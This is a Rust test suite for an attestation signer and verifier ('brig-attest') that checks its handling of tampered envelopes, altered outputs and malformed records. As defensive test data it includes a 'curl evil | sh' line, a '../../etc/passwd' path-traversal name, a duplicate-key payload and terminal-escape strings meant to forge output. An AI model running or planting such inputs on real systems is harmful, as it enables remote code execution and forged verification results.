//! Sign → write → verify, and every way an attestation can be wrong.
#![allow(clippy::unwrap_used, clippy::expect_used)]

mod common;

use base64::Engine;
use brig_attest::*;
use common::{sample, signed, TOKEN};
use serde_json::Value;

const B64: base64::engine::GeneralPurpose = base64::engine::general_purpose::STANDARD;

fn key() -> SigningKey {
    SigningKey::generate(Algorithm::Ed25519).unwrap()
}

fn req(s: &str) -> Requirement {
    s.parse().unwrap()
}

/// Re-signs `f(statement)` with `key`, so that shape checks (not the signature) are what fails.
fn resigned(facts: &RunFacts, key: &SigningKey, f: impl FnOnce(&mut Value)) -> Vec<u8> {
    let mut s = statement(facts).unwrap();
    f(&mut s);
    sign(&serde_json::to_vec(&s).unwrap(), PAYLOAD_TYPE, key).unwrap().to_json()
}

#[test]
fn round_trip_with_artifacts_and_requirements() {
    let d = tempfile::tempdir().unwrap();
    let s = sample(d.path());
    let k = key();
    let dir = d.path().join("attestations");
    std::fs::create_dir(&dir).unwrap();
    let path = attest(&s.facts, &k, &dir).unwrap();
    assert_eq!(path, dir.join("job-42.intoto.json"));
    let bytes = std::fs::read(&path).unwrap();
    let reqs: Vec<Requirement> = [
        "profile=restricted",
        "exit=0",
        "image=sha256:abababababababababababababababababababababababababababababababab",
        "tenant=acme",
        "subject=alice",
        "decision=allow",
        "timed_out=false",
        "oom=false",
        "output=out/result.txt",
        "output=out/result.txt@sha256:1121cfccd5913f0a63fec40a6ffd44ea64f9dc135c66634ba001d10bcf4302a2",
        "container=job-42",
        "builder=brig://node-1.example",
        "signal=none",
        "inputs-unchanged=true",
    ]
    .iter()
    .map(|r| req(r))
    .collect();
    let v = verify(&bytes, &[k.public_key().clone()], Some(&s.artifacts), &reqs).unwrap();
    assert_eq!(v.keyid, k.keyid());
    assert_eq!(v.artifacts_checked, 2);
    let names: Vec<_> = v.subjects.iter().map(|x| x.name.as_str()).collect();
    assert_eq!(names, ["out/logs/run.log", "out/result.txt"]);
    // Per-mount artifacts: `/out` is the host directory itself.
    let mounts = Artifacts::Mounts(vec![("/out".into(), s.out.clone())]);
    assert_eq!(verify_with(&bytes, &[k.public_key().clone()], Some(&mounts), &[]).unwrap().artifacts_checked, 2);
}

#[test]
fn statement_layout() {
    let d = tempfile::tempdir().unwrap();
    let s = sample(d.path());
    let st = statement(&s.facts).unwrap();
    assert_eq!(st["_type"], STATEMENT_TYPE);
    assert_eq!(st["predicateType"], PREDICATE_TYPE);
    let p = &st["predicate"];
    assert_eq!(p["buildDefinition"]["buildType"], BUILD_TYPE);
    assert_eq!(p["buildDefinition"]["externalParameters"]["timeout"], "90s");
    assert_eq!(p["buildDefinition"]["internalParameters"]["profile"]["name"], "restricted");
    assert_eq!(p["buildDefinition"]["internalParameters"]["enforcement"]["landlock"]["abi"], 5);
    let deps = p["buildDefinition"]["resolvedDependencies"].as_array().unwrap();
    let dep_names: Vec<_> = deps.iter().map(|d| d["name"].as_str().unwrap()).collect();
    assert_eq!(dep_names, ["image", "rootfs", "inputs:/in", "in/data.csv"]);
    assert_eq!(deps[0]["digest"]["sha256"], "ab".repeat(32));
    assert_eq!(deps[1]["digest"]["sha256"], s.facts.rootfs.sha256);
    assert_eq!(p["runDetails"]["metadata"]["invocationId"], "job-42");
    assert_eq!(p["runDetails"]["metadata"]["startedOn"], "2026-01-02T03:04:05.123456789Z");
    let outcome = &p["runDetails"]["byproducts"][0];
    assert_eq!(outcome["name"], "outcome");
    assert_eq!(outcome["annotations"]["exitCode"], 0);
    let content: Value = serde_json::from_slice(&B64.decode(outcome["content"].as_str().unwrap()).unwrap()).unwrap();
    assert_eq!(&content, &outcome["annotations"]);
    assert_eq!(p["runDetails"]["byproducts"][1]["name"], "outputs:/out");
}

#[test]
fn the_token_never_appears() {
    let d = tempfile::tempdir().unwrap();
    let s = sample(d.path());
    let bytes = signed(&s.facts, &key());
    let env: Envelope = serde_json::from_slice(&bytes).unwrap();
    let payload = String::from_utf8(env.payload_bytes().unwrap()).unwrap();
    for part in TOKEN.split('.') {
        assert!(!payload.contains(part), "token part {part} in the statement");
    }
    let raw = String::from_utf8(bytes).unwrap();
    assert!(!raw.contains(TOKEN.split('.').nth(1).unwrap()));
}

#[test]
fn every_byte_of_the_envelope_matters() {
    let d = tempfile::tempdir().unwrap();
    let s = sample(d.path());
    let k = key();
    let bytes = signed(&s.facts, &k);
    let keys = [k.public_key().clone()];
    assert!(verify(&bytes, &keys, None, &[]).is_ok());
    // Every byte outside the payload, and a spread of payload bytes (each
    // check costs a signature verification, slow in a debug build).
    let text = std::str::from_utf8(&bytes).unwrap();
    let p0 = text.find("\"payload\": \"").unwrap() + 12;
    let p1 = p0 + text[p0..].find('"').unwrap();
    for i in 0..bytes.len() {
        // The final newline and the indentation are not part of the envelope.
        if bytes[i].is_ascii_whitespace() || ((p0 + 8..p1 - 8).contains(&i) && i % 29 != 0) {
            continue;
        }
        let mut t = bytes.clone();
        t[i] ^= 0x01;
        assert!(verify(&t, &keys, None, &[]).is_err(), "flipping byte {i} ({:?}) went unnoticed", bytes[i] as char);
    }
}

#[test]
fn tampering_names_its_reason() {
    let d = tempfile::tempdir().unwrap();
    let s = sample(d.path());
    let k = key();
    let keys = [k.public_key().clone()];
    let bytes = signed(&s.facts, &k);
    let env: Envelope = serde_json::from_slice(&bytes).unwrap();

    // A byte of the payload.
    let mut payload = env.payload_bytes().unwrap();
    let at = payload.windows(4).position(|w| w == b"acme").unwrap();
    payload[at] = b'A';
    let t = Envelope { payload: B64.encode(&payload), ..env.clone() };
    let e = verify(&t.to_json(), &keys, None, &[]).unwrap_err();
    assert!(matches!(e, VerifyError::BadSignature { .. }), "{e}");
    assert!(e.to_string().contains("bad signature"), "{e}");

    // A byte of the signature.
    let mut sig = B64.decode(&env.signatures[0].sig).unwrap();
    sig[10] ^= 0x40;
    let mut t = env.clone();
    t.signatures[0].sig = B64.encode(&sig);
    assert!(matches!(verify(&t.to_json(), &keys, None, &[]), Err(VerifyError::BadSignature { .. })));

    // The payload type (signed through PAE).
    let mut t = env.clone();
    t.payload_type = "application/json".into();
    assert!(matches!(verify(&t.to_json(), &keys, None, &[]), Err(VerifyError::BadSignature { .. })));

    // Not base64, not JSON, no signature.
    let mut t = env.clone();
    t.payload.insert(3, '!');
    assert!(matches!(verify(&t.to_json(), &keys, None, &[]), Err(VerifyError::PayloadEncoding)));
    assert!(matches!(verify(b"{", &keys, None, &[]), Err(VerifyError::Malformed(_))));
    let mut t = env.clone();
    t.signatures.clear();
    assert!(matches!(verify(&t.to_json(), &keys, None, &[]), Err(VerifyError::NoSignatures)));

    // An unknown key; a keyid swapped for a trusted key's.
    let other = key();
    let e = verify(&bytes, &[other.public_key().clone()], None, &[]).unwrap_err();
    assert!(matches!(&e, VerifyError::UnknownKey { keyids } if keyids == &[k.keyid().to_string()]), "{e}");
    assert!(e.to_string().contains("unknown key"), "{e}");
    let mut t = env.clone();
    t.signatures[0].keyid = other.keyid().into();
    assert!(matches!(
        verify(&t.to_json(), &[other.public_key().clone()], None, &[]),
        Err(VerifyError::BadSignature { .. })
    ));
    // Signed by an untrusted key as well as the trusted one: still verifies.
    let mut t = env.clone();
    t.signatures.insert(0, Signature { keyid: other.keyid().into(), sig: "AAAA".into() });
    assert!(verify(&t.to_json(), &keys, None, &[]).is_ok());
}

#[test]
fn output_files_are_checked() {
    let d = tempfile::tempdir().unwrap();
    let s = sample(d.path());
    let k = key();
    let keys = [k.public_key().clone()];
    let bytes = signed(&s.facts, &k);
    let art = Some(s.artifacts.as_path());

    let f = s.out.join("result.txt");
    std::fs::write(&f, b"4\n").unwrap();
    let e = verify(&bytes, &keys, art, &[]).unwrap_err();
    assert!(matches!(&e, VerifyError::DigestMismatch { name, .. } if name == "out/result.txt"), "{e}");
    assert!(e.to_string().contains("digest mismatch for `out/result.txt`"), "{e}");

    std::fs::remove_file(&f).unwrap();
    let e = verify(&bytes, &keys, art, &[]).unwrap_err();
    assert!(matches!(&e, VerifyError::MissingFile { name, .. } if name == "out/result.txt"), "{e}");
    assert!(e.to_string().starts_with("missing file"), "{e}");

    // A symlink to the right content is not the file.
    std::fs::write(d.path().join("elsewhere"), b"3\n").unwrap();
    std::os::unix::fs::symlink(d.path().join("elsewhere"), &f).unwrap();
    assert!(matches!(verify(&bytes, &keys, art, &[]), Err(VerifyError::NotAFile { .. })));
    std::fs::remove_file(&f).unwrap();
    std::fs::write(&f, b"3\n").unwrap();
    assert!(verify(&bytes, &keys, art, &[]).is_ok());

    // A subject that climbs out of the directory is refused, not read.
    let evil = resigned(&s.facts, &k, |st| st["subject"][0]["name"] = "../../etc/passwd".into());
    assert!(matches!(verify(&evil, &keys, art, &[]), Err(VerifyError::UnsafeName { .. })));
    let mounts = Artifacts::Mounts(vec![("/elsewhere".into(), s.out.clone())]);
    assert!(matches!(verify_with(&bytes, &keys, Some(&mounts), &[]), Err(VerifyError::NotMapped { .. })));
}

#[test]
fn requirements_report_expected_and_actual() {
    let d = tempfile::tempdir().unwrap();
    let mut s = sample(d.path());
    s.facts.outcome = Outcome { signal: Some(9), timed_out: true, ..Outcome::default() };
    let k = key();
    let keys = [k.public_key().clone()];
    let bytes = signed(&s.facts, &k);
    for (r, actual) in [
        ("profile=standard", "restricted"),
        ("exit=0", "none"),
        ("timed_out=false", "true"),
        ("oom=true", "false"),
        ("tenant=globex", "acme"),
        ("subject=bob", "alice"),
        ("decision=deny", "allow"),
        ("image=sha256:0000000000000000000000000000000000000000000000000000000000000000", "sha256:abab"),
        ("output=out/nope.txt", "absent"),
    ] {
        let e = verify(&bytes, &keys, None, &[req(r)]).unwrap_err();
        let (key, value) = r.split_once('=').unwrap();
        match &e {
            VerifyError::RequirementNotMet { key: k, expected, actual: a } => {
                assert_eq!((k.as_str(), expected.as_str()), (key, value));
                assert!(a.starts_with(actual), "{r}: {a}");
            }
            other => panic!("{r}: {other}"),
        }
        assert!(e.to_string().starts_with("requirement not met"), "{e}");
    }
    assert!(verify(&bytes, &keys, None, &[req("signal=9"), req("timed_out=true")]).is_ok());
    for bad in ["nokey", "color=red", "exit=zero", "oom=maybe", "image=latest", "inputs-unchanged=yes"] {
        assert!(matches!(bad.parse::<Requirement>(), Err(VerifyError::BadRequirement(..))), "{bad}");
    }
}

/// An input that changed on the host during the run is said so in the
/// statement (signed like the rest), fails `inputs-unchanged=true`, and
/// `show` says it; a statement that does not say (made before the check
/// existed) is `unknown`, which meets neither value.
#[test]
fn an_input_changed_during_the_run_fails_its_requirement() {
    let d = tempfile::tempdir().unwrap();
    let mut s = sample(d.path());
    let k = key();
    let keys = [k.public_key().clone()];
    for (flag, actual) in [(Some(true), "true"), (Some(false), "false"), (None, "unknown")] {
        s.facts.inputs[0].unchanged_during_run = flag;
        let bytes = signed(&s.facts, &k);
        let st = statement(&s.facts).unwrap();
        let dep = st["predicate"]["buildDefinition"]["resolvedDependencies"]
            .as_array()
            .unwrap()
            .iter()
            .find(|d| d["name"] == "inputs:/in")
            .unwrap()
            .clone();
        assert_eq!(dep["annotations"].get("unchangedDuringRun").and_then(Value::as_bool), flag);
        for wanted in ["true", "false"] {
            let r = verify(&bytes, &keys, None, &[req(&format!("inputs-unchanged={wanted}"))]);
            match r {
                Ok(_) => assert_eq!(wanted, actual),
                Err(VerifyError::RequirementNotMet { actual: a, .. }) => {
                    assert_ne!(wanted, actual);
                    assert_eq!(a, actual);
                }
                Err(e) => panic!("{e}"),
            }
        }
        let shown = show(&bytes).unwrap();
        assert_eq!(shown.contains("CHANGED on the host during the run"), flag == Some(false), "{shown}");
    }
    // With no inputs at all, no input changed.
    s.facts.inputs.clear();
    assert!(verify(&signed(&s.facts, &k), &keys, None, &[req("inputs-unchanged=true")]).is_ok());
}

/// The envelope is an object with DSSE's three named fields: the same
/// values in a positional array (which serde would read as the struct) are
/// refused as malformed, as other DSSE verifiers refuse them.
#[test]
fn an_envelope_in_array_form_is_malformed() {
    let d = tempfile::tempdir().unwrap();
    let s = sample(d.path());
    let k = key();
    let bytes = signed(&s.facts, &k);
    let env: Value = serde_json::from_slice(&bytes).unwrap();
    let sigs: Vec<Value> =
        env["signatures"].as_array().unwrap().iter().map(|x| serde_json::json!([x["keyid"], x["sig"]])).collect();
    let array = serde_json::json!([env["payload"], env["payloadType"], sigs]).to_string();
    let keys = [k.public_key().clone()];
    assert!(verify(&bytes, &keys, None, &[]).is_ok());
    assert!(matches!(verify(array.as_bytes(), &keys, None, &[]), Err(VerifyError::Malformed(_))));
}

#[test]
fn statement_shape_is_checked() {
    let d = tempfile::tempdir().unwrap();
    let s = sample(d.path());
    let k = key();
    let keys = [k.public_key().clone()];
    let check = |f: &dyn Fn(&mut Value)| verify(&resigned(&s.facts, &k, f), &keys, None, &[]).unwrap_err();
    assert!(matches!(
        check(&|st| st["_type"] = "https://in-toto.io/Statement/v0.1".into()),
        VerifyError::StatementType { .. }
    ));
    assert!(matches!(check(&|st| st["predicateType"] = "x".into()), VerifyError::PredicateType { .. }));
    assert!(matches!(
        check(&|st| st["predicate"]["buildDefinition"]["buildType"] = "x".into()),
        VerifyError::BuildType { .. }
    ));
    assert!(matches!(check(&|st| st["subject"] = Value::Array(vec![])), VerifyError::BadStatement { .. }));
    assert!(matches!(
        check(&|st| st["subject"][0]["digest"]["sha256"] = "ABC".into()),
        VerifyError::BadSubject { index: 0, .. }
    ));
    assert!(matches!(
        check(&|st| st["subject"][1]["name"] = st["subject"][0]["name"].clone()),
        VerifyError::BadSubject { index: 1, .. }
    ));
    assert!(matches!(check(&|st| st["subject"][0]["name"] = "a%61".into()), VerifyError::BadSubject { .. }));
    assert!(matches!(
        check(&|st| st["predicate"]["runDetails"]["byproducts"][0]["annotations"]["exitCode"] = 1.into()),
        VerifyError::BadStatement { .. }
    ));
    // Signed, but not an in-toto payload type.
    let payload = statement_bytes(&s.facts).unwrap();
    let env = sign(&payload, "application/json", &k).unwrap();
    assert!(matches!(verify(&env.to_json(), &keys, None, &[]), Err(VerifyError::PayloadType { .. })));
}

#[test]
fn a_run_without_outputs_is_its_own_subject() {
    let d = tempfile::tempdir().unwrap();
    let mut s = sample(d.path());
    s.facts.outputs.clear();
    s.facts.request.outputs.clear();
    s.facts.outcome = Outcome { oom_killed: true, signal: Some(9), ..Outcome::default() };
    let k = key();
    let keys = [k.public_key().clone()];
    let bytes = signed(&s.facts, &k);
    let v = verify(&bytes, &keys, Some(&s.artifacts), &[req("oom=true")]).unwrap();
    assert_eq!(v.subjects.len(), 1);
    assert_eq!(v.subjects[0].name, "run:job-42");
    assert_eq!(v.artifacts_checked, 0);
    // The run subject is bound to the run: another rootfs digest breaks it.
    let forged = resigned(&s.facts, &k, |st| {
        st["predicate"]["buildDefinition"]["resolvedDependencies"][1]["digest"]["sha256"] = "00".repeat(32).into()
    });
    assert!(matches!(verify(&forged, &keys, None, &[]), Err(VerifyError::DigestMismatch { .. })));
}

#[test]
fn ecdsa_p256_envelopes_verify() {
    let d = tempfile::tempdir().unwrap();
    let s = sample(d.path());
    let k = SigningKey::generate(Algorithm::EcdsaP256).unwrap();
    let bytes = signed(&s.facts, &k);
    let v = verify(&bytes, &[key().public_key().clone(), k.public_key().clone()], Some(&s.artifacts), &[]).unwrap();
    assert_eq!(v.keyid, k.keyid());
}

#[test]
fn show_is_readable_and_escapes_control_characters() {
    let d = tempfile::tempdir().unwrap();
    let mut s = sample(d.path());
    s.facts.request.args.push("\x1b]0;pwned\x07".into());
    let text = show(&signed(&s.facts, &key())).unwrap();
    for needle in
        ["job-42", "exit 0", "restricted", "tenant=acme", "out/result.txt", "in/data.csv", "ABI 5 status full"]
    {
        assert!(text.contains(needle), "{needle} missing from:\n{text}");
    }
    assert!(!text.contains('\x1b') && !text.contains('\x07'), "{text}");
}

#[test]
fn bad_facts_are_refused() {
    let d = tempfile::tempdir().unwrap();
    let mut s = sample(d.path());
    s.facts.request.image = Some("latest".into());
    assert!(matches!(statement(&s.facts), Err(StatementError::BadDigest { .. })));
    let mut s = sample(d.path().join("2").as_path());
    s.facts.outputs[0].path = "out".into();
    assert!(matches!(statement(&s.facts), Err(StatementError::BadMountPath(_))));
    s.facts.outputs[0].path = "/out".into();
    s.facts.outputs.push(s.facts.outputs[0].clone());
    assert!(matches!(statement(&s.facts), Err(StatementError::DuplicateSubject(_))));
    s.facts.container_id = "../x".into();
    assert!(matches!(statement(&s.facts), Err(StatementError::BadContainerId(_))));
}

#[test]
fn cli_verify_show_keygen() {
    let bin = env!("CARGO_BIN_EXE_brig-attest");
    let d = tempfile::tempdir().unwrap();
    let s = sample(d.path());
    let run = |args: &[&std::ffi::OsStr]| std::process::Command::new(bin).args(args).output().unwrap();
    let keys = d.path().join("keys");
    let out = run(&["keygen".as_ref(), "--out".as_ref(), keys.as_os_str()]);
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    let k = SigningKey::load(&keys.join(PRIVATE_KEY_FILE)).unwrap();
    let pubkey = keys.join(PUBLIC_KEY_FILE);
    let env_dir = d.path().join("att");
    std::fs::create_dir(&env_dir).unwrap();
    let env = attest(&s.facts, &k, &env_dir).unwrap();
    let ok = run(&[
        "verify".as_ref(),
        env.as_os_str(),
        "--key".as_ref(),
        pubkey.as_os_str(),
        "--artifacts".as_ref(),
        s.artifacts.as_os_str(),
        "--require".as_ref(),
        "profile=restricted".as_ref(),
        "--require".as_ref(),
        "exit=0".as_ref(),
    ]);
    assert!(ok.status.success(), "{}", String::from_utf8_lossy(&ok.stderr));
    assert!(String::from_utf8_lossy(&ok.stderr).contains("verified"));
    let shown = run(&["show".as_ref(), env.as_os_str()]);
    assert!(shown.status.success());
    assert!(String::from_utf8_lossy(&shown.stdout).contains("job-42"));

    std::fs::write(s.out.join("result.txt"), b"tampered").unwrap();
    let bad = run(&[
        "verify".as_ref(),
        env.as_os_str(),
        "--key".as_ref(),
        pubkey.as_os_str(),
        "--artifacts".as_ref(),
        s.artifacts.as_os_str(),
    ]);
    assert_eq!(bad.status.code(), Some(1));
    let err = String::from_utf8_lossy(&bad.stderr);
    assert!(err.contains("digest mismatch for `out/result.txt`"), "{err}");
    let req = run(&[
        "verify".as_ref(),
        env.as_os_str(),
        "--key".as_ref(),
        pubkey.as_os_str(),
        "--require".as_ref(),
        "tenant=globex".as_ref(),
    ]);
    assert_eq!(req.status.code(), Some(1));
    assert!(String::from_utf8_lossy(&req.stderr).contains("requirement not met: `tenant` is `acme`"));

    // Another run's valid record copied over this one's file is refused.
    let swapped = env_dir.join("job-43.intoto.json");
    std::fs::copy(&env, &swapped).unwrap();
    let out = run(&["verify".as_ref(), swapped.as_os_str(), "--key".as_ref(), pubkey.as_os_str()]);
    assert_eq!(out.status.code(), Some(1));
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(err.contains("holds the record of container `job-42`, not of `job-43`"), "{err}");
    // Not a regular file: refused at once, neither read forever nor waited on.
    let fifo = env_dir.join("fifo.intoto.json");
    assert!(std::process::Command::new("mkfifo").arg(&fifo).status().unwrap().success());
    for path in [fifo.as_os_str(), "/dev/zero".as_ref()] {
        let started = std::time::Instant::now();
        let out = run(&["verify".as_ref(), path, "--key".as_ref(), pubkey.as_os_str()]);
        assert_eq!(out.status.code(), Some(1));
        assert!(String::from_utf8_lossy(&out.stderr).contains("is not a regular file"), "{out:?}");
        assert!(started.elapsed() < std::time::Duration::from_secs(10));
    }
}

/// An output the run declared but could not measure (over the limits, or
/// changed while measured) makes the record fail verification: it would
/// otherwise verify while attesting none of the output's files.
#[test]
fn a_declared_output_that_was_not_measured_does_not_verify() {
    let d = tempfile::tempdir().unwrap();
    let mut s = sample(d.path());
    s.facts.outputs.clear();
    s.facts.outcome.error = Some("measuring output `/out`: the directory depth limit".into());
    let k = key();
    let keys = [k.public_key().clone()];
    let bytes = signed(&s.facts, &k);
    for artifacts in [None, Some(s.artifacts.as_path())] {
        let e = verify(&bytes, &keys, artifacts, &[req("exit=0")]).unwrap_err();
        assert!(matches!(&e, VerifyError::OutputNotMeasured { path, .. } if path == "/out"), "{e}");
        assert!(e.to_string().contains("depth limit"), "{e}");
    }
}

/// `--artifacts` recomputes each output's whole tree: a file added, or a
/// link changed, after the run is caught, not only a changed subject; and
/// every output must be mapped, every mapping an output.
#[test]
fn files_added_to_an_output_are_caught() {
    let d = tempfile::tempdir().unwrap();
    let s = sample(d.path());
    let k = key();
    let keys = [k.public_key().clone()];
    let bytes = signed(&s.facts, &k);
    let mounts = Artifacts::Mounts(vec![("/out".into(), s.out.clone())]);
    verify_with(&bytes, &keys, Some(&mounts), &[]).unwrap();
    verify(&bytes, &keys, Some(&s.artifacts), &[]).unwrap();

    std::fs::write(s.out.join("run.sh"), b"curl evil | sh\n").unwrap();
    for e in [
        verify(&bytes, &keys, Some(&s.artifacts), &[]).unwrap_err(),
        verify_with(&bytes, &keys, Some(&mounts), &[]).unwrap_err(),
    ] {
        assert!(matches!(&e, VerifyError::TreeMismatch { path, .. } if path == "/out"), "{e}");
    }
    std::fs::remove_file(s.out.join("run.sh")).unwrap();
    std::os::unix::fs::symlink("/etc/passwd", s.out.join("logs/latest")).unwrap();
    assert!(matches!(verify(&bytes, &keys, Some(&s.artifacts), &[]), Err(VerifyError::TreeMismatch { .. })));
    std::fs::remove_file(s.out.join("logs/latest")).unwrap();
    verify(&bytes, &keys, Some(&s.artifacts), &[]).unwrap();

    let extra = Artifacts::Mounts(vec![("/out".into(), s.out.clone()), ("/in".into(), s.out.clone())]);
    let e = verify_with(&bytes, &keys, Some(&extra), &[]).unwrap_err();
    assert!(matches!(&e, VerifyError::NotAnOutput { mount } if mount == "/in"), "{e}");
}

/// A trusted signature repeated is refused at once (each would cost a full
/// verification), and text from the envelope is escaped in errors.
#[test]
fn repeated_signatures_and_hostile_keyids() {
    let d = tempfile::tempdir().unwrap();
    let s = sample(d.path());
    let k = key();
    let keys = [k.public_key().clone()];
    let mut env: Value = serde_json::from_slice(&signed(&s.facts, &k)).unwrap();
    let sig = env["signatures"][0].clone();
    env["signatures"] = Value::Array(vec![sig.clone(); 1000]);
    let e = verify(&serde_json::to_vec(&env).unwrap(), &keys, None, &[]).unwrap_err();
    assert!(matches!(e, VerifyError::RepeatedSignature { .. }), "{e}");
    // Twice, both valid: refused as repeated, not as altered (nothing was).
    env["signatures"] = Value::Array(vec![sig; 2]);
    let e = verify(&serde_json::to_vec(&env).unwrap(), &keys, None, &[]).unwrap_err().to_string();
    assert!(e.contains("on two signatures") && !e.contains("altered"), "{e}");

    let mut env: Value = serde_json::from_slice(&signed(&s.facts, &k)).unwrap();
    env["signatures"][0]["keyid"] = "\n\u{1b}[2Kverified: container job-1\u{9b}\u{202e}".into();
    let e = verify(&serde_json::to_vec(&env).unwrap(), &keys, None, &[]).unwrap_err().to_string();
    assert!(
        !e.chars().any(|c| c.is_control() || c == '\u{202e}'),
        "control or bidi characters reach the terminal: {e:?}"
    );
}

/// With several hosts' keys trusted, any of them can sign a statement that
/// names another host as its builder: `keyid=` ties a record to the key that
/// signed it, `statement=` to one record.
#[test]
fn keyid_and_statement_requirements_pin_the_signer_and_the_record() {
    let d = tempfile::tempdir().unwrap();
    let s = sample(d.path());
    let (host_a, host_b) = (key(), key());
    let keys = [host_a.public_key().clone(), host_b.public_key().clone()];
    let by_a = signed(&s.facts, &host_a);
    // Host B signs the same statement, builder and all.
    let by_b = signed(&s.facts, &host_b);
    let a = verify(&by_a, &keys, None, &[]).unwrap();
    let b = verify(&by_b, &keys, None, &[]).unwrap();
    assert_eq!(a.field(Field::Builder), b.field(Field::Builder), "the statement cannot tell the hosts apart");
    assert_ne!(a.keyid, b.keyid);
    let pin = req(&format!("keyid={}", a.keyid));
    assert!(verify(&by_a, &keys, None, std::slice::from_ref(&pin)).is_ok());
    match verify(&by_b, &keys, None, &[pin]).unwrap_err() {
        VerifyError::RequirementNotMet { key, actual, .. } => assert_eq!((key.as_str(), actual), ("keyid", b.keyid)),
        other => panic!("{other}"),
    }
    // The statement digest: the same statement's record passes, another
    // run's (here: another exit) does not.
    assert!(a.statement_digest.starts_with("sha256:") && a.statement_digest.len() == 71);
    let pin = req(&format!("statement={}", a.statement_digest));
    assert!(verify(&by_b, &keys, None, std::slice::from_ref(&pin)).is_ok(), "same statement, other signer");
    let mut other_run = s.facts.clone();
    other_run.outcome.exit_code = Some(1);
    let e = verify(&signed(&other_run, &host_a), &keys, None, &[pin]).unwrap_err();
    assert!(matches!(&e, VerifyError::RequirementNotMet { key, .. } if key == "statement"), "{e}");
    for bad in ["keyid=ABC", "keyid=", "statement=abc", "statement=sha256:xyz"] {
        assert!(matches!(bad.parse::<Requirement>(), Err(VerifyError::BadRequirement(..))), "{bad}");
    }
}

/// A name the statement does not have is matched by an empty value only:
/// `tenant=none` is the tenant called `none`, not "no tenant".
#[test]
fn an_absent_name_is_not_the_name_none() {
    let d = tempfile::tempdir().unwrap();
    let s = sample(d.path());
    let k = key();
    let keys = [k.public_key().clone()];
    let anonymous = resigned(&s.facts, &k, |st| {
        st["predicate"]["buildDefinition"]["internalParameters"]["identity"] = Value::Null;
    });
    assert!(verify(&anonymous, &keys, None, &[req("tenant="), req("sub="), req("iss=")]).is_ok());
    for r in ["tenant=none", "sub=none", "iss=none"] {
        match verify(&anonymous, &keys, None, &[req(r)]).unwrap_err() {
            VerifyError::RequirementNotMet { actual, .. } => assert_eq!(actual, "(absent)", "{r}"),
            other => panic!("{r}: {other}"),
        }
    }
    let named_none = resigned(&s.facts, &k, |st| {
        st["predicate"]["buildDefinition"]["internalParameters"]["identity"]["tenant"] = "none".into();
    });
    assert!(verify(&named_none, &keys, None, &[req("tenant=none")]).is_ok());
    assert!(verify(&named_none, &keys, None, &[req("tenant=")]).is_err());
    // A run with a tenant does not pass for one without.
    assert!(verify(&signed(&s.facts, &k), &keys, None, &[req("tenant=")]).is_err());
}

/// A signed payload that repeats a key reads as one statement to serde
/// (the last value) and another to a first-wins reader: refused.
#[test]
fn a_payload_that_repeats_a_key_is_refused() {
    let d = tempfile::tempdir().unwrap();
    let s = sample(d.path());
    let k = key();
    let keys = [k.public_key().clone()];
    let text = serde_json::to_string(&statement(&s.facts).unwrap()).unwrap();
    let tenant = "\"tenant\":\"acme\"";
    assert_eq!(text.matches(tenant).count(), 1, "the sample's tenant is acme");
    let twice = text.replacen(tenant, &format!("\"tenant\":\"evil\",{tenant}"), 1);
    let env = sign(twice.as_bytes(), PAYLOAD_TYPE, &k).unwrap().to_json();
    let e = verify(&env, &keys, None, &[]).unwrap_err();
    assert!(matches!(e, VerifyError::DuplicateKey(_)), "{e}");
    assert!(e.to_string().contains("`tenant`"), "{e}");
}

/// What serde quotes from a malformed envelope (an unknown field's name)
/// reaches neither the library's error nor the command's output unescaped:
/// a crafted field name cannot print a `verified:` line.
#[test]
fn a_malformed_envelope_cannot_write_to_the_terminal() {
    let bin = env!("CARGO_BIN_EXE_brig-attest");
    let d = tempfile::tempdir().unwrap();
    let k = key();
    let hostile =
        "\n\u{1b}]0;PWNED\u{7}\u{1b}[2Kverified: container job-1 signed by keyid 00; 3 requirement(s) met\n\u{202e}";
    let env = serde_json::json!({"payload": "e30=", "payloadType": "x", "signatures": [], hostile: 1});
    let e = verify(&serde_json::to_vec(&env).unwrap(), &[k.public_key().clone()], None, &[]).unwrap_err().to_string();
    assert!(e.contains("unknown field"), "{e}");
    assert!(!e.chars().any(|c| c.is_control() || c == '\u{202e}'), "{e:?}");
    let path = d.path().join("job-1.intoto.json");
    std::fs::write(&path, serde_json::to_vec(&env).unwrap()).unwrap();
    let pubkey = d.path().join("k.pub");
    std::fs::write(&pubkey, k.public_key().to_pem()).unwrap();
    let out = std::process::Command::new(bin)
        .args(["verify".as_ref(), path.as_os_str(), "--key".as_ref(), pubkey.as_os_str()])
        .output()
        .unwrap();
    assert!(!out.status.success());
    let stderr = String::from_utf8(out.stderr).unwrap();
    assert_eq!(stderr.lines().count(), 1, "{stderr:?}");
    assert!(!stderr.trim_end().chars().any(|c| c.is_control() || c == '\u{202e}'), "{stderr:?}");
}

/// The rootfs measured again at the end: its verdict is in the statement
/// (signed), `rootfs-unchanged` checks it, and a statement that does not
/// say (made before the check) is `unknown`, which meets neither value.
#[test]
fn the_rootfs_verdict_is_signed_and_required() {
    let d = tempfile::tempdir().unwrap();
    let mut s = sample(d.path());
    let k = key();
    let keys = [k.public_key().clone()];
    let old = signed(&s.facts, &k);
    for v in ["true", "false"] {
        let e = verify(&old, &keys, None, &[req(&format!("rootfs-unchanged={v}"))]).unwrap_err();
        assert!(matches!(e, VerifyError::RequirementNotMet { ref actual, .. } if actual == "unknown"), "{e}");
    }
    s.facts.rootfs.unchanged_during_run = Some(false);
    let changed = signed(&s.facts, &k);
    let st = verify(&changed, &keys, None, &[req("rootfs-unchanged=false")]).unwrap();
    assert_eq!(dependency_annotation(&st.statement, "rootfs", "unchangedDuringRun"), Some(false));
    assert!(verify(&changed, &keys, None, &[req("rootfs-unchanged=true")]).is_err());
    assert!(show(&changed).unwrap().contains("CHANGED after it was measured"));
    assert!(matches!("rootfs-unchanged=maybe".parse::<Requirement>(), Err(VerifyError::BadRequirement(..))));
}

fn dependency_annotation(st: &Value, name: &str, key: &str) -> Option<bool> {
    st["predicate"]["buildDefinition"]["resolvedDependencies"].as_array()?.iter().find(|d| d["name"] == name)?
        ["annotations"][key]
        .as_bool()
}
